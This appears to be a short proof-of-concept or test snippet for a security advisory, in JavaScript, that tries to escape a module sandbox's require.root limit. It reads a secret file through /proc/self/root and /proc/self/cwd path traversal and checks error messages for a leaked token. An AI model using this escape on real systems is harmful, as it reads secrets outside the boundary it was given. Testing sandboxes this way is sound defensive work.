// GHSA-cp6g-6699-wx9c
// A path inside require.root is a link to the outside.
for (const path of [GOAL.secret, '/proc/self/root' + GOAL.secret, '/proc/self/cwd/../../../../../..' + GOAL.secret]) { try { note(require(path)); } catch (e) { note(e.message.includes(GOAL.token) ? GOAL.token : ''); } }
return found;
